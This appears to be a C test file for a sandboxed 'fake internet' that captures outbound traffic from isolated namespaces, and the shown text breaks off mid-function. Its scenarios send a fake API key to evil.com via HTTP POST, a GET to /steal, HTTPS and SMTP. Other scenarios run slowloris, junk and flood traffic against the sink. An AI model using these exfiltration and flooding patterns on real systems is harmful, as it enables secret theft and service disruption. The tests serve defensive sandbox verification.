/*
 * test_fakenet.c -- the fake internet, driven the way a world drives it.
 *
 * Each test forks a child that does what a replica world does: leaves
 * root for nobody (as root), unshares a user and a network namespace,
 * maps its id (1000 inside, so dnsmasq gets its port through the ambient
 * capability, not through being root), calls fakenet_up(), and then
 * plays the hostile input with plain sockets: an HTTP POST carrying the
 * essay's secret, DNS questions, a connection to a port nobody serves,
 * UDP datagrams, TLS ClientHellos, HTTPS through the world's CA, SMTP,
 * junk, floods.  The captures come back the way a world's parent gets
 * them: with cfg.outside, the pipes' far ends are held by this process
 * and read through fakenet_attach() (the world holds neither); or, in
 * test_captures, the child reads its own and forwards the raw frames.
 * Either way this process decodes every frame with fakenet_decode() and
 * asserts on what a record would say.  What the child saw as a client
 * comes back as text on an error pipe, which must stay empty.
 *
 * test_resolver and test_https also unshare a mount namespace and bind
 * the replica /etc files fakenet.h recommends over the host's, then
 * resolve with getaddrinfo() and verify with OpenSSL's default paths:
 * the recipe the world helper follows.
 *
 * Skips (exit 77) only when the kernel has no user namespaces.
 */
#include "config.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <netdb.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <openssl/err.h>
#include <openssl/ssl.h>

#include "world/fakenet.h"

#define SECRET		"API_KEY=sk-live-9f3a2b"
#define CHILD_LIMIT_S	40		/* a child that takes longer hangs */

/* ------------------------------------------------------------------ */
/* the world's side                                                    */
/* ------------------------------------------------------------------ */

static int err_fd = -1;		/* child: what went wrong, as text */
static int frame_fd = -1;	/* child: raw frames to the parent */

static void
fail_child(const char *fmt, ...)
{
	char text[512];
	va_list ap;
	int len;

	va_start(ap, fmt);
	len = vsnprintf(text, sizeof text - 1, fmt, ap);
	va_end(ap);
	if (len < 0)
		len = 0;
	if (len > (int)sizeof text - 2)
		len = (int)sizeof text - 2;
	text[len++] = '\n';
	(void)write(err_fd, text, (size_t)len);
}

static int
write_text(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	ssize_t len = (ssize_t)strlen(text);

	if (fd < 0)
		return -1;
	if (write(fd, text, (size_t)len) != len) {
		close(fd);
		return -1;
	}
	return close(fd);
}

/* Into a world: nobody outside (as root), 1000 inside, own netns. */
static int
enter_world(int extra_flags)
{
	char map[64];
	unsigned outer_uid, outer_gid;

	if (geteuid() == 0) {
		if (setgroups(0, NULL) == -1 || setresgid(65534, 65534, 65534) == -1 ||
		    setresuid(65534, 65534, 65534) == -1)
			return -1;
		(void)prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);
	}
	outer_uid = (unsigned)geteuid();
	outer_gid = (unsigned)getegid();
	if (unshare(CLONE_NEWUSER | CLONE_NEWNET | extra_flags) == -1)
		return -1;
	if (write_text("/proc/self/setgroups", "deny") == -1)
		return -1;
	snprintf(map, sizeof map, "1000 %u 1", outer_uid);
	if (write_text("/proc/self/uid_map", map) == -1)
		return -1;
	snprintf(map, sizeof map, "1000 %u 1", outer_gid);
	return write_text("/proc/self/gid_map", map);
}

static void
forward(void *ctx, const struct fakenet_capture *c, const void *frame,
    size_t len)
{
	(void)ctx;
	(void)c;
	if (write(frame_fd, frame, len) != (ssize_t)len)
		fail_child("forward: %s", strerror(errno));
}

static int
tcp_to(const char *addr, uint16_t port)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(port) };
	struct timeval tv = { .tv_sec = 5 };
	int fd;

	inet_pton(AF_INET, addr, &a.sin_addr);
	fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return -1;
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
	if (connect(fd, (struct sockaddr *)&a, sizeof a) == -1) {
		int e = errno;

		close(fd);
		errno = e;
		return -1;
	}
	return fd;
}

/* Send req, read until EOF (at most cap-1 bytes kept).  Returns the
 * length read, -1 on error. */
static ssize_t
exchange(const char *addr, uint16_t port, const void *req, size_t len,
    char *reply, size_t cap)
{
	size_t have = 0;
	ssize_t got;
	int fd = tcp_to(addr, port);

	if (fd < 0)
		return -1;
	if (len && send(fd, req, len, MSG_NOSIGNAL) != (ssize_t)len) {
		close(fd);
		return -1;
	}
	while (have + 1 < cap &&
	    (got = recv(fd, reply + have, cap - 1 - have, 0)) > 0)
		have += (size_t)got;
	reply[have] = 0;
	close(fd);
	return (ssize_t)have;
}

/* The sink's answer to a whole request: 200, Content-Length: 0 and no
 * body at all (as the corpus's CPython ground truth answers). */
static bool
is_http_ok(const char *reply)
{
	const char *end = strstr(reply, "\r\n\r\n");

	return strncmp(reply, "HTTP/1.1 200 OK\r\n", 17) == 0 &&
	    strstr(reply, "\r\nContent-Length: 0\r\n") != NULL &&
	    end != NULL && end[4] == 0;
}

static void
expect_http_ok(const char *what, const char *addr, uint16_t port,
    const char *req)
{
	char reply[1024];

	if (exchange(addr, port, req, strlen(req), reply, sizeof reply) < 0)
		fail_child("%s: %s", what, strerror(errno));
	else if (!is_http_ok(reply))
		fail_child("%s: reply '%.60s'", what, reply);
}

/* A DNS question sent by hand; returns the A record's address or "". */
static void
ask_dns(const char *server, const char *name, char *out, size_t n)
{
	unsigned char q[300], r[512];
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(53) };
	struct timeval tv = { .tv_sec = 3 };
	size_t off = 12;
	const char *p = name;
	ssize_t got;
	int fd;

	out[0] = 0;
	memset(q, 0, 12);
	q[0] = 0x51;
	q[1] = 0x7e;
	q[2] = 0x01;
	q[5] = 1;
	while (*p) {
		size_t l = strcspn(p, ".");

		q[off++] = (unsigned char)l;
		memcpy(q + off, p, l);
		off += l;
		p += l + (p[l] == '.');
	}
	q[off++] = 0;
	q[off++] = 0;
	q[off++] = 1;
	q[off++] = 0;
	q[off++] = 1;
	inet_pton(AF_INET, server, &a.sin_addr);
	fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
	if (sendto(fd, q, off, 0, (struct sockaddr *)&a, sizeof a) != (ssize_t)off)
		goto done;
	got = recv(fd, r, sizeof r, 0);
	if (got >= (ssize_t)off + 16 && r[0] == q[0] && r[1] == q[1] &&
	    (r[7] >= 1))
		inet_ntop(AF_INET, r + got - 4, out, (socklen_t)n);
done:
	close(fd);
}

/* A TLS 1.2/1.3-style ClientHello naming sni. */
static size_t
client_hello(unsigned char *b, const char *sni)
{
	size_t sl = strlen(sni), off = 0, hs_len_at, rec_len_at, ext_at;

	b[off++] = 0x16; b[off++] = 3; b[off++] = 1;
	rec_len_at = off; off += 2;
	b[off++] = 1;				/* ClientHello */
	hs_len_at = off; off += 3;
	b[off++] = 3; b[off++] = 3;		/* TLS 1.2 */
	memset(b + off, 0x42, 32); off += 32;	/* random */
	b[off++] = 0;				/* session id */
	b[off++] = 0; b[off++] = 2; b[off++] = 0x13; b[off++] = 0x01;
	b[off++] = 1; b[off++] = 0;		/* compression null */
	ext_at = off; off += 2;
	b[off++] = 0; b[off++] = 0;		/* server_name */
	b[off++] = 0; b[off++] = (unsigned char)(sl + 5);
	b[off++] = 0; b[off++] = (unsigned char)(sl + 3);
	b[off++] = 0;				/* host_name */
	b[off++] = 0; b[off++] = (unsigned char)sl;
	memcpy(b + off, sni, sl); off += sl;
	b[ext_at] = (unsigned char)((off - ext_at - 2) >> 8);
	b[ext_at + 1] = (unsigned char)(off - ext_at - 2);
	b[hs_len_at] = 0;
	b[hs_len_at + 1] = (unsigned char)((off - hs_len_at - 3) >> 8);
	b[hs_len_at + 2] = (unsigned char)(off - hs_len_at - 3);
	b[rec_len_at] = (unsigned char)((off - 5) >> 8);
	b[rec_len_at + 1] = (unsigned char)(off - 5);
	return off;
}

static void
udp_to(const char *addr, uint16_t port, const char *text)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(port) };
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	inet_pton(AF_INET, addr, &a.sin_addr);
	if (sendto(fd, text, strlen(text), 0, (struct sockaddr *)&a,
	    sizeof a) != (ssize_t)strlen(text))
		fail_child("udp %s:%u: %s", addr, port, strerror(errno));
	close(fd);
}

/* "Seccomp:\t2" and friends in /proc/pid/status. */
static void
expect_status(pid_t pid, const char *who, const char *line)
{
	char path[64], text[4096];
	ssize_t got;
	int fd;

	snprintf(path, sizeof path, "/proc/%d/status", (int)pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	got = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
	if (fd >= 0)
		close(fd);
	text[got > 0 ? got : 0] = 0;
	if (!strstr(text, line))
		fail_child("%s: no '%s' in its status", who, line);
}

/* ---- the scenarios (each runs in the child, after fakenet_up) ---- */

static void
play_basics(struct fakenet *fn)
{
	static const char post[] =
		"POST /x HTTP/1.1\r\nHost: evil.com\r\n"
		"Content-Type: application/x-www-form-urlencoded\r\n"
		"Content-Length: 22\r\n\r\n" SECRET;
	unsigned char hello[512], reply[64];
	char addr[64];
	size_t len;
	ssize_t got;
	int fd;

	expect_status(fn->sink, "sink", "Seccomp:\t2");
	expect_status(fn->sink, "sink", "CapEff:\t0000000000000000");
	expect_status(fn->sink, "sink", "NoNewPrivs:\t1");
	expect_status(fn->dnsmasq, "dnsmasq", "CapEff:\t0000000000000400");
	expect_status(fn->dnsmasq, "dnsmasq", "NoNewPrivs:\t1");
	ask_dns("127.0.0.1", "evil.com", addr, sizeof addr);
	if (strcmp(addr, FAKENET_ANSWER) != 0)
		fail_child("dns evil.com via 127.0.0.1: '%s'", addr);
	ask_dns("8.8.8.8", "other.example", addr, sizeof addr);
	if (strcmp(addr, FAKENET_ANSWER) != 0)
		fail_child("dns other.example via 8.8.8.8: '%s'", addr);
	ask_dns("127.0.0.1", "evil.com", addr, sizeof addr);
	expect_http_ok("post :80", FAKENET_ANSWER, 80, post);
	fd = tcp_to(FAKENET_ANSWER, 31337);
	if (fd >= 0 || errno != ECONNREFUSED)
		fail_child("port 31337: %s", fd >= 0 ? "accepted" : strerror(errno));
	if (fd >= 0)
		close(fd);
	udp_to("9.9.9.9", 9999, "ping-9999");
	if (fn->has_ipv6) {
		static const char get6[] = "GET /six HTTP/1.1\r\nHost: v6\r\n\r\n";
		struct sockaddr_in6 a = { .sin6_family = AF_INET6,
		    .sin6_port = htons(80) };
		char reply6[256];
		int s6 = socket(AF_INET6, SOCK_STREAM | SOCK_CLOEXEC, 0);

		inet_pton(AF_INET6, "2001:db8::9", &a.sin6_addr);
		if (connect(s6, (struct sockaddr *)&a, sizeof a) == -1 ||
		    send(s6, get6, strlen(get6), MSG_NOSIGNAL) < 0 ||
		    recv(s6, reply6, sizeof reply6, 0) < 12 ||
		    memcmp(reply6, "HTTP/1.1 200", 12) != 0)
			fail_child("ipv6 :80: %s", strerror(errno));
		close(s6);
		s6 = socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, 0);
		inet_pton(AF_INET6, "2001:db8::7", &a.sin6_addr);
		a.sin6_port = htons(7777);
		if (sendto(s6, "six", 3, 0, (struct sockaddr *)&a, sizeof a) != 3)
			fail_child("udp6: %s", strerror(errno));
		close(s6);
	}
	len = client_hello(hello, "evil.com");
	got = exchange(FAKENET_ANSWER, 443, hello, len, (char *)reply,
	    sizeof reply);
	if (got < 7 || reply[0] != 0x15)
		fail_child("tls :443: %zd bytes, first %02x", got,
		    got > 0 ? reply[0] : 0);
	/* A question over TCP (dnsmasq answers it). */
	fd = tcp_to("127.0.0.1", 53);
	if (fd < 0) {
		fail_child("tcp :53: %s", strerror(errno));
	} else {
		static const unsigned char q[] = { 0, 30, 0x22, 0x11, 1, 0,
		    0, 1, 0, 0, 0, 0, 0, 0, 3, 't', 'c', 'p', 4, 'e', 'v',
		    'i', 'l', 3, 'c', 'o', 'm', 0, 0, 1, 0, 1 };
		unsigned char a[128];

		if (send(fd, q, sizeof q, MSG_NOSIGNAL) != sizeof q ||
		    recv(fd, a, sizeof a, 0) < 2 + 12 + 16)
			fail_child("dns over tcp: no answer");
		close(fd);
	}
}

static void
play_resolver(struct fakenet *fn)
{
	static const char *const files[][2] = {
		{ "/etc/resolv.conf", "nameserver 127.0.0.1\n"
		    "options attempts:1 timeout:1\n" },
		{ "/etc/hosts", "127.0.0.1 localhost\n::1 localhost\n" },
		{ "/etc/nsswitch.conf", "hosts: files dns\n" },
	};
	struct addrinfo hints = { .ai_family = AF_UNSPEC,
	    .ai_socktype = SOCK_STREAM }, *res = NULL, *ai;
	char addr[64], tmpl[] = "/tmp/fakenet-etc.XXXXXX", req[256];
	size_t i;

	(void)fn;
	if (!mkdtemp(tmpl) ||
	    mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) == -1) {
		fail_child("mount namespace: %s", strerror(errno));
		return;
	}
	for (i = 0; i < sizeof files / sizeof files[0]; i++) {
		char path[128];
		int fd;

		snprintf(path, sizeof path, "%s/%zu", tmpl, i);
		fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
		if (fd < 0 || write(fd, files[i][1], strlen(files[i][1])) < 0 ||
		    close(fd) == -1 ||
		    mount(path, files[i][0], NULL, MS_BIND, NULL) == -1)
			fail_child("bind %s: %s", files[i][0], strerror(errno));
		unlink(path);
	}
	rmdir(tmpl);
	if (getaddrinfo("evil.com", "80", &hints, &res) != 0 || !res) {
		fail_child("getaddrinfo evil.com failed");
		return;
	}
	addr[0] = 0;
	for (ai = res; ai; ai = ai->ai_next)
		if (ai->ai_family == AF_INET)
			inet_ntop(AF_INET, &((struct sockaddr_in *)ai->ai_addr)->sin_addr,
			    addr, sizeof addr);
		else
			fail_child("getaddrinfo gave a non-IPv4 address");
	freeaddrinfo(res);
	if (strcmp(addr, FAKENET_ANSWER) != 0)
		fail_child("getaddrinfo evil.com: '%s'", addr);
	snprintf(req, sizeof req, "GET /steal?%s HTTP/1.1\r\n"
	    "Host: evil.com\r\n\r\n", SECRET);
	expect_http_ok("get :8080", addr, 8080, req);
}

/*
 * HTTPS through the world's CA, as a client in the world sees it: the
 * CA's PEM bound over Debian's bundle path, OpenSSL's default verify
 * paths (which lead there, as Python's ssl and curl do), the host name
 * checked.  Then a connection to the bare address (no SNI: the leaf names
 * the IP), and a client that trusts nothing, which must fail.
 */
static struct fakenet_ca *shared_ca;	/* test_https's, made by the host */

static int
tls_client(const char *host, const char *ip, bool trust, const char *req,
    char *reply, size_t cap)
{
	SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
	SSL *ssl = NULL;
	size_t have = 0;
	int fd = -1, rc = -1, got;

	if (!ctx || (trust && SSL_CTX_set_default_verify_paths(ctx) != 1))
		goto out;
	SSL_CTX_set_verify(ctx, SSL_VERIFY_PEER, NULL);
	ssl = SSL_new(ctx);
	fd = tcp_to(FAKENET_ANSWER, 443);
	if (!ssl || fd < 0 || SSL_set_fd(ssl, fd) != 1)
		goto out;
	if (host && (SSL_set_tlsext_host_name(ssl, host) != 1 ||
	    SSL_set1_host(ssl, host) != 1))
		goto out;
	if (ip && X509_VERIFY_PARAM_set1_ip_asc(SSL_get0_param(ssl), ip) != 1)
		goto out;
	if (SSL_connect(ssl) != 1)
		goto out;
	if (SSL_write(ssl, req, (int)strlen(req)) != (int)strlen(req))
		goto out;
	while (have + 1 < cap &&
	    (got = SSL_read(ssl, reply + have, (int)(cap - 1 - have))) > 0)
		have += (size_t)got;
	reply[have] = 0;
	rc = 0;
out:
	ERR_clear_error();
	SSL_free(ssl);
	SSL_CTX_free(ctx);
	if (fd >= 0)
		close(fd);
	return rc;
}

static void
play_https(struct fakenet *fn)
{
	static const char post[] =
		"POST /collect HTTP/1.1\r\nHost: evil.com\r\n"
		"Content-Length: 22\r\n\r\n" SECRET;
	char tmpl[] = "/tmp/fakenet-ca.XXXXXX", reply[1024];
	int fd;

	if (!fn->ca_pem || !strstr(fn->ca_pem, "BEGIN CERTIFICATE") ||
	    !shared_ca || strcmp(fn->ca_pem, fakenet_ca_pem(shared_ca)) != 0) {
		fail_child("not the CA given to fakenet_up");
		return;
	}
	fd = mkstemp(tmpl);
	if (fd < 0 || write(fd, fn->ca_pem, strlen(fn->ca_pem)) < 0 ||
	    close(fd) == -1 ||
	    mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) == -1 ||
	    mount(tmpl, "/etc/ssl/certs/ca-certificates.crt", NULL, MS_BIND,
	    NULL) == -1) {
		fail_child("bind the CA: %s", strerror(errno));
		return;
	}
	unlink(tmpl);
	if (tls_client("evil.com", NULL, true, post, reply, sizeof reply) == -1)
		fail_child("https://evil.com: the handshake failed");
	else if (!is_http_ok(reply))
		fail_child("https://evil.com: reply '%.40s'", reply);
	if (tls_client(NULL, FAKENET_ANSWER, true,
	    "GET /ip HTTP/1.1\r\n\r\n", reply, sizeof reply) == -1 ||
	    !is_http_ok(reply))
		fail_child("https://" FAKENET_ANSWER " failed");
	if (tls_client("pinned.example", NULL, false,
	    "GET /never HTTP/1.1\r\n\r\n", reply, sizeof reply) != -1)
		fail_child("a client that trusts nothing got through");
}

/* SMTP, as smtplib speaks it: the greeting first, DATA, a dot. */
static void
play_smtp(struct fakenet *fn)
{
	static const char *const lines[] = {
		"EHLO me\r\n", "MAIL FROM:<a@b>\r\n", "RCPT TO:<x@evil.com>\r\n",
		"DATA\r\n", "Subject: k\r\n\r\n" SECRET "\r\n.\r\n", "QUIT\r\n",
	};
	char buf[256];
	size_t i;
	ssize_t got;
	int fd = tcp_to(FAKENET_ANSWER, 25);

	(void)fn;
	if (fd < 0) {
		fail_child("smtp: %s", strerror(errno));
		return;
	}
	got = recv(fd, buf, sizeof buf - 1, 0);
	if (got < 4 || memcmp(buf, "220 ", 4) != 0)
		fail_child("smtp: no greeting");
	for (i = 0; i < sizeof lines / sizeof lines[0]; i++) {
		if (send(fd, lines[i], strlen(lines[i]), MSG_NOSIGNAL) < 0)
			fail_child("smtp send: %s", strerror(errno));
		got = recv(fd, buf, sizeof buf - 1, 0);
		if (got < 4 || buf[0] < '2' || buf[0] > '3')
			fail_child("smtp: line %zu got %zd", i, got);
	}
	close(fd);
}

static double
now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

#define PARALLEL	200
#define FLOOD		1000
#define JUNK		120

static void
play_hostile(struct fakenet *fn)
{
	static char giant[1 << 20];
	static const unsigned char bad_tls[] = {
		0x16, 0x03, 0x01, 0x00, 0x30, 0x01, 0xff, 0xff, 0xff, 0x03,
		0x03, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff,
	};
	static const unsigned char bad_dns[] = {
		0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x00, 0, 0, 0, 0,
		0xc0, 0x0c, 0x3f, 'a', 0x00,
	};
	int fds[PARALLEL], fd, i;
	char reply[256];
	double t0;
	size_t sent = 0;
	ssize_t got;

	(void)fn;
	/* A header that never ends: the sink answers 431 and closes. */
	memcpy(giant, "GET / HTTP/1.1\r\nX-Big: ", 23);
	memset(giant + 23, 'a', sizeof giant - 23);
	fd = tcp_to(FAKENET_ANSWER, 80);
	t0 = now_s();
	while (fd >= 0 && sent < sizeof giant &&
	    (got = send(fd, giant + sent, sizeof giant - sent,
	    MSG_NOSIGNAL)) > 0)
		sent += (size_t)got;
	got = fd >= 0 ? recv(fd, reply, sizeof reply - 1, 0) : -1;
	if (got < 12 || memcmp(reply, "HTTP/1.1 431", 12) != 0)
		fail_child("giant header: reply %zd", got);
	if (fd >= 0)
		close(fd);
	if (now_s() - t0 > 5)
		fail_child("giant header took %.1f s", now_s() - t0);

	/* Slowloris: a byte every 50 ms; the sink's life_ms ends it. */
	fd = tcp_to(FAKENET_ANSWER, 8000);
	t0 = now_s();
	(void)send(fd, "GET / HTTP/1.1\r\n", 16, MSG_NOSIGNAL);
	for (;;) {
		struct pollfd p = { .fd = fd, .events = POLLIN };

		if (poll(&p, 1, 50) > 0) {
			got = recv(fd, reply, sizeof reply, 0);
			if (got <= 0)
				break;
		}
		if (send(fd, "X", 1, MSG_NOSIGNAL) < 0)
			break;
		if (now_s() - t0 > 10) {
			fail_child("slowloris still open after 10 s");
			break;
		}
	}
	close(fd);
	if (now_s() - t0 < 0.5)
		fail_child("slowloris ended early: %.2f s", now_s() - t0);

	/* Malformed TLS and DNS: the sink must live on. */
	(void)exchange(FAKENET_ANSWER, 443, bad_tls, sizeof bad_tls, reply,
	    sizeof reply);
	{
		struct sockaddr_in a = { .sin_family = AF_INET,
		    .sin_port = htons(53) };
		int u = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

		inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
		(void)sendto(u, bad_dns, sizeof bad_dns, 0,
		    (struct sockaddr *)&a, sizeof a);
		close(u);
	}

	/* Junk of every length to every protocol's port, from a fixed
	 * seed, some of it shaped like what each port expects. */
	{
		static const uint16_t ports[] = { 25, 80, 443, 8080 };
		static const char *const starts[] = { "", "GET ", "POST / HTTP/1.1\r\nContent-Length: 9999999999999\r\n\r\n",
			"\x16\x03\x01\x40\x00\x01\x00\x3f\xfc\x03\x03", "DATA\r\n", "\x16\x03" };
		unsigned seed = 12345;
		int k;

		for (k = 0; k < JUNK; k++) {
			char junk[4096];
			size_t len = (size_t)(seed % sizeof junk), j;
			const char *st = starts[k % 6];

			for (j = 0; j < len; j++) {
				seed = seed * 1103515245u + 12345u;
				junk[j] = (char)(seed >> 16);
			}
			memcpy(junk, st, strlen(st) < len ? strlen(st) : len);
			/* Then EOF, so that nobody waits for the rest. */
			fd = tcp_to(FAKENET_ANSWER, ports[k % 4]);
			if (fd < 0) {
				fail_child("junk %d: %s", k, strerror(errno));
				continue;
			}
			(void)send(fd, junk, len, MSG_NOSIGNAL);
			shutdown(fd, SHUT_WR);
			while (recv(fd, reply, sizeof reply, 0) > 0)
				;
			close(fd);
		}
	}

	/* 200 at once, each saying who it is. */
	for (i = 0; i < PARALLEL; i++) {
		char hello[32];

		fds[i] = tcp_to(FAKENET_ANSWER, 4444);
		if (fds[i] < 0) {
			fail_child("parallel %d: %s", i, strerror(errno));
			continue;
		}
		snprintf(hello, sizeof hello, "conn-%03d", i);
		(void)send(fds[i], hello, strlen(hello), MSG_NOSIGNAL);
	}
	for (i = 0; i < PARALLEL; i++)
		if (fds[i] >= 0)
			close(fds[i]);

	/* Still serving. */
	expect_http_ok("after the storm", FAKENET_ANSWER, 80,
	    "GET /alive HTTP/1.1\r\nHost: a\r\n\r\n");

	/* A flood nobody reads yet (the host reads after the play): more
	 * frames than the sink may hold. */
	{
		struct sockaddr_in a = { .sin_family = AF_INET,
		    .sin_port = htons(5555) };
		static char dgram[60000];
		int u = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

		memset(dgram, 'f', sizeof dgram);
		inet_pton(AF_INET, "9.9.9.9", &a.sin_addr);
		/* In bursts of 200: each overflows the raw socket's queue
		 * (counted), none lo's own backlog (netdev_max_backlog,
		 * 1000 packets), which drops what a busy machine's softirq
		 * has not taken yet before any socket sees it, as a real
		 * network loses packets: no loss of the sink's. */
		for (i = 0; i < FLOOD; i++) {
			if (sendto(u, dgram, sizeof dgram, 0,
			    (struct sockaddr *)&a, sizeof a) != sizeof dgram)
				fail_child("flood %d: %s", i, strerror(errno));
			if (i % 200 == 199)
				usleep(20 * 1000);
		}
		close(u);
	}
}

/* A body bigger than the most a capture keeps. */
static void
play_big(struct fakenet *fn)
{
	static char req[100 * 1024];
	char reply[256];
	int len;

	(void)fn;
	len = snprintf(req, sizeof req, "POST /big HTTP/1.1\r\nHost: b\r\n"
	    "Content-Length: %zu\r\n\r\n", sizeof req - 64);
	memset(req + len, 'b', sizeof req - (size_t)len);
	if (exchange(FAKENET_ANSWER, 80, req, (size_t)len + sizeof req - 64,
	    reply, sizeof reply) < 0 || strncmp(reply, "HTTP/1.1 200 OK", 15))
		fail_child("big post: '%.40s'", reply);
}

static int host_tcp = -1, host_udp = -1;	/* in the host's netns */
static uint16_t host_tcp_port, host_udp_port;

static void
play_leak(struct fakenet *fn)
{
	char text[32];
	int fd;

	(void)fn;
	/* The host's listener's address, from inside: it is the world's own
	 * loopback now; nobody listens on the port. */
	fd = tcp_to("127.0.0.1", host_tcp_port);
	if (fd >= 0) {
		fail_child("127.0.0.1:%u accepted a connection", host_tcp_port);
		close(fd);
	}
	snprintf(text, sizeof text, "leak-%u", host_udp_port);
	udp_to("127.0.0.1", host_udp_port, text);
	expect_http_ok("post :80", FAKENET_ANSWER, 80,
	    "POST / HTTP/1.1\r\nContent-Length: 22\r\n\r\n" SECRET);
	udp_to("1.1.1.1", 53, "not dns at all");
}

/* ------------------------------------------------------------------ */
/* the host's side                                                     */
/* ------------------------------------------------------------------ */

struct run {
	unsigned char	*frames;	/* every frame, back to back */
	size_t		 len;
	struct fakenet_capture *caps;
	size_t		 ncaps;
	char		 errors[4096];
	int		 status;
};

typedef void (*play_fn)(struct fakenet *fn);

static void
collect(void *ctx, const struct fakenet_capture *c, const void *frame,
    size_t len)
{
	struct run *r = ctx;

	(void)c;
	r->frames = realloc(r->frames, r->len + len);
	assert_non_null(r->frames);
	memcpy(r->frames + r->len, frame, len);
	r->len += len;
}

/*
 * Play in a fresh world and collect the frames.  outside: as a world
 * should run it, the capture pipes' far ends are held here, in the host
 * process, and the world holds none (fakenet_attach() reads them once
 * the child says it has played); otherwise the child reads its own
 * captures and forwards the raw frames.
 */
static void
run_world(play_fn play, const struct fakenet_config *cfg, int extra_flags,
    bool outside, struct run *r)
{
	int fr[2], er[2], cp[2], kp[2], go[2];
	size_t off;
	pid_t pid;
	double t0;
	char c;

	memset(r, 0, sizeof *r);
	assert_int_equal(pipe(fr), 0);
	assert_int_equal(pipe(er), 0);
	assert_int_equal(pipe(cp), 0);
	assert_int_equal(pipe(kp), 0);
	assert_int_equal(pipe(go), 0);
	pid = fork();
	assert_true(pid >= 0);
	if (pid == 0) {
		struct fakenet_config mine = { 0 };
		struct fakenet fn;
		char why[256];

		close(fr[0]);
		close(er[0]);
		close(cp[0]);
		close(kp[1]);
		close(go[1]);
		frame_fd = fr[1];
		err_fd = er[1];
		alarm(CHILD_LIMIT_S);
		if (host_tcp >= 0)
			close(host_tcp);
		if (host_udp >= 0)
			close(host_udp);
		if (cfg)
			mine = *cfg;
		if (outside) {
			mine.outside = 1;
			mine.capture_wr = cp[1];
			mine.ctl_rd = kp[0];
		} else {
			close(cp[1]);
			close(kp[0]);
		}
		if (enter_world(extra_flags) == -1) {
			fail_child("enter world: %s", strerror(errno));
			_exit(1);
		}
		if (fakenet_up(&mine, &fn, why, sizeof why) == -1) {
			fail_child("fakenet_up: %s", why);
			_exit(1);
		}
		if (outside && (fn.fd != -1 || fn.ctl != -1 ||
		    fcntl(cp[1], F_GETFD) != -1 || fcntl(kp[0], F_GETFD) != -1))
			fail_child("the world holds a capture pipe");
		play(&fn);
		if (outside) {
			if (write(frame_fd, "P", 1) != 1 ||
			    read(go[0], &c, 1) != 1)
				fail_child("the host went away");
		} else if (fakenet_read_captures(&fn, 5000, forward, NULL, why,
		    sizeof why) < 0) {
			fail_child("read_captures: %s", why);
		}
		fakenet_down(&fn);
		_exit(0);
	}
	close(fr[1]);
	close(er[1]);
	close(cp[1]);
	close(kp[0]);
	close(go[0]);
	if (outside) {
		struct pollfd p = { .fd = fr[0], .events = POLLIN };
		struct fakenet rd;
		char why[256];

		if (poll(&p, 1, CHILD_LIMIT_S * 1000) == 1 &&
		    read(fr[0], &c, 1) == 1 && c == 'P') {
			fakenet_attach(&rd, cp[0], kp[1]);
			if (fakenet_read_captures(&rd, 5000, collect, r, why,
			    sizeof why) < 0)
				snprintf(r->errors, sizeof r->errors,
				    "host: read_captures: %s\n", why);
			fakenet_down(&rd);
		} else {
			close(cp[0]);
			close(kp[1]);
		}
		(void)write(go[1], "G", 1);
	} else {
		close(cp[0]);
		close(kp[1]);
	}
	close(go[1]);
	t0 = now_s();
	for (;;) {
		struct pollfd p[2] = { { .fd = fr[0], .events = POLLIN },
		    { .fd = er[0], .events = POLLIN } };
		size_t elen = strlen(r->errors);
		unsigned char buf[65536];
		ssize_t got;

		if (poll(p, 2, 1000) < 0 && errno != EINTR)
			break;
		if (p[0].revents) {
			got = read(fr[0], buf, sizeof buf);
			if (got > 0)
				collect(r, NULL, buf, (size_t)got);
			else
				fr[0] = (close(fr[0]), -1);
		}
		if (p[1].revents && er[0] >= 0) {
			got = read(er[0], r->errors + elen,
			    sizeof r->errors - 1 - elen);
			if (got > 0)
				r->errors[elen + (size_t)got] = 0;
			else
				er[0] = (close(er[0]), -1);
		}
		if (fr[0] < 0 && er[0] < 0)
			break;
		if (now_s() - t0 > CHILD_LIMIT_S + 5)
			break;
	}
	if (fr[0] >= 0)
		close(fr[0]);
	if (er[0] >= 0)
		close(er[0]);
	assert_int_equal(waitpid(pid, &r->status, 0), pid);
	if (r->errors[0])
		print_message("  the world said:\n%s", r->errors);
	assert_string_equal(r->errors, "");
	assert_true(WIFEXITED(r->status) && WEXITSTATUS(r->status) == 0);
	/* Decode every frame as the parent of a world will. */
	for (off = 0; off < r->len;) {
